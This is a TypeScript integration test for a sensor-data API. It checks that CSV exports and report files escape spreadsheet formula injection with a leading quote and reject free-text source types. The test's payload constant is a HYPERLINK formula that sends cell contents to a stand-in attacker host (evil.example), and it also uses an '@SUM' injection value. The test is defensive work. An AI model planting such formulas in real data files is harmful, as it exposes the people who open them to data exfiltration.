import { datasourceKey } from '../../functions/core/datasources/datasources';
import { updateNow } from '../../functions/core/store/table';
import { useTestApi } from '../support/local-api';
import { dataOrg, type DataOrg } from '../support/data-api';
import { eventually, expectStatus } from '../support/scenario';
import { parseCsvLine } from '../support/csv';

/**
 * No spreadsheet formula in a CSV cell, through HTTP: `sourceType` is one of Clarity's source
 * types, and free text that would begin a formula (a datasource stored before that rule with a
 * free-text `sourceType`, a sender's `qcAssessment`) is written with a leading `'` in csv-wide
 * answers and in report files, while negative readings stay numbers. 50 datasources.
 */

const api = useTestApi();
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
/** The cell as written: a leading quote mark, then RFC 4180 quoting (the formula holds commas and quotes). */
const ESCAPED_FORMULA = `"'${FORMULA.replace(/"/g, '""')}"`;
const MINUTE = 60_000;

describe('CSV cells', () => {
  let org: DataOrg;
  let legacy: string;
  let time: string;

  beforeAll(async () => {
    org = await dataOrg(api, 50);
    legacy = org.datasources[7]!;
    // A datasource stored before sourceType was one of Clarity's: its free text is still read.
    expect(await updateNow(datasourceKey(org.orgId, legacy), { set: { sourceType: FORMULA } })).toBe(true);
    time = new Date(Math.floor(Date.now() / MINUTE) * MINUTE - 5 * MINUTE).toISOString();
    for (const datasourceId of org.datasources) {
      const answer = await api.call('POST', `/v2/datasources/${datasourceId}/measurements`, {
        key: org.keys.technician,
        body: {
          org: org.orgId,
          measurements: [
            {
              time,
              metrics: {
                temperatureInternal: { raw: -5.45, value: -5.45, qcAssessment: datasourceId === legacy ? '@SUM(A1)' : 'valid' },
                pm2_5ConcMass: 7.5,
              },
            },
          ],
        },
      });
      expectStatus(answer, 202);
    }
  });

  it('a new datasource takes only one of Clarity source types: anything else is 400 naming them', async () => {
    const refused = await api.call('POST', `/admin/orgs/${org.orgId}/datasources`, {
      token: org.admin.token,
      body: { name: 'Injected', sourceType: FORMULA },
    });
    expect(refused.status).toBe(400);
    expect(refused.body).toMatchObject({ code: 'validation_error', details: [{ path: 'sourceType' }] });
    expect(refused.body.details[0].message).toContain('CLARITY_NODE, REFERENCE_SITE');
    const free = await api.call('POST', `/admin/orgs/${org.orgId}/datasources`, {
      token: org.admin.token,
      body: { name: 'Free text', sourceType: 'MY_SENSOR' },
    });
    expect(free.status).toBe(400);
    const site = await api.call('POST', `/admin/orgs/${org.orgId}/datasources`, {
      token: org.admin.token,
      body: { name: 'Reference', sourceType: 'REFERENCE_SITE' },
    });
    expectStatus(site, 201);
    expect(site.body.sourceType).toBe('REFERENCE_SITE');
  });

  it('the stored datasource with a formula for its sourceType still reads, as it was stored, in JSON', async () => {
    const answer = await api.call('GET', `/v2/datasources?org=${org.orgId}`, { key: org.keys.observer });
    expectStatus(answer, 200);
    const stored = answer.body.datasources.find((datasource: { datasourceId: string }) => datasource.datasourceId === legacy);
    expect(stored.sourceType).toBe(FORMULA);
  });

  it("csv-wide answers write free text that would begin a formula with a leading ', and negative readings as numbers", async () => {
    const answer = await api.call('POST', '/v2/recent-datasource-measurements-query', {
      key: org.keys.observer,
      body: {
        org: org.orgId,
        allDatasources: true,
        format: 'csv-wide',
        qcAssessment: true,
        metricSelect: 'only temperatureInternalIndividual',
      },
    });
    expectStatus(answer, 200);
    const [header, ...lines] = (answer.body as string).trimEnd().split('\n');
    expect(header).toBe(
      'datasourceId,sourceId,sourceType,outputFrequency,time,locationLatitude,locationLongitude,' +
        'temperatureInternalIndividual.qcAssessment,temperatureInternalIndividual.raw,temperatureInternalIndividual.status,temperatureInternalIndividual.value',
    );
    expect(lines).toHaveLength(50);
    const legacyLine = lines.find((line) => line.startsWith(`${legacy},`))!;
    expect(legacyLine).toContain(`,${ESCAPED_FORMULA},minute,`);
    expect(legacyLine).toContain(`,'@SUM(A1),-5.45,`);
    for (const line of lines) {
      const cells = parseCsvLine(line);
      expect(cells).toHaveLength(11);
      expect([cells[8], cells[10]]).toEqual(['-5.45', '-5.45']);
      // No cell a spreadsheet would run: every one that begins a formula is a number.
      for (const cell of cells) if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
    }
  });

  it("report files write the same cells: the formula with a leading ', the readings as numbers", async () => {
    const requested = await api.call('POST', '/v2/report-requests', {
      key: org.keys.observer,
      body: {
        org: org.orgId,
        report: 'datasource-measurements',
        outputFrequency: 'minute',
        allDatasources: true,
        qcAssessment: true,
        metricSelect: 'only temperatureInternalIndividual',
        startTime: new Date(Date.parse(time) - MINUTE).toISOString(),
        endTime: new Date(Date.parse(time) + MINUTE).toISOString(),
      },
    });
    expectStatus(requested, 200);
    let record: { reportStatus: string; urls: string[] } | undefined;
    await eventually(async () => {
      const answer = await api.call('GET', `/v2/report-requests/${requested.body.reportId}`, { key: org.keys.observer });
      record = answer.body;
      return record!.reportStatus !== 'in-progress';
    }, 30_000);
    expect(record!.reportStatus).toBe('succeeded');
    const files = await Promise.all(record!.urls.map(async (url) => (await fetch(url)).text()));
    const lines = files.flatMap((file) => file.trimEnd().split('\n').slice(1));
    expect(lines).toHaveLength(50);
    const legacyLine = lines.find((line) => line.startsWith(`${legacy},`))!;
    expect(legacyLine).toContain(`,${ESCAPED_FORMULA},minute,`);
    expect(legacyLine).toContain(`,'@SUM(A1),-5.45,`);
    for (const line of lines) {
      expect(parseCsvLine(line)[8]).toBe('-5.45');
      for (const cell of parseCsvLine(line)) if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
    }
    await api.runtime.reports.idle();
  });
});
